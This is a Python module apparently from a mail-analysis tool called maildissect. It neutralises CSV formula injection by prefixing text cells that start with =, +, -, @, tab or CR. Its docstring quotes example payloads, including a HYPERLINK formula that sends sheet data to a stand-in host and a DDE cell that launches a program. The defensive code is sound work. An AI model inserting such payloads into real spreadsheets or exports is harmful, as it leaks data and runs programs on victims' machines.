"""CSV cells that a spreadsheet will not run.

Spreadsheets read a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("https://evil.test/?"&A2,"Click")`` leaks the sheet,
``+cmd|' /C calc'!A0`` starts a program in old Excel), and some also a cell
that starts with a TAB or CR followed by one of them. Every CSV maildissect
writes (listing commands with ``-f csv``, ``export -f csv``, extract's
index.csv) passes its cells through :func:`csv_cell`: such text gets a
leading ``'``, OWASP's advice on CSV injection. Numbers are not text and are
never changed (``-0.5`` stays a number); ``--csv-raw`` writes text as it is.
"""

from __future__ import annotations

#: A text cell starting with one of these is read as a formula by spreadsheets.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: Rows end with CRLF (RFC 4180). Python's csv writer quotes a cell holding a character of the
#: line end only: with a bare LF it wrote a CR inside a cell unquoted, and a spreadsheet starts a
#: new row at that CR, where the rest of the cell (``x\r=HYPERLINK(...)``) begins a formula.
LINE_END = "\r\n"


def csv_cell(value, raw: bool = False):
    """``value`` for a CSV cell: text that starts a formula gets a leading ``'`` (unless ``raw``)."""
    if not raw and isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value
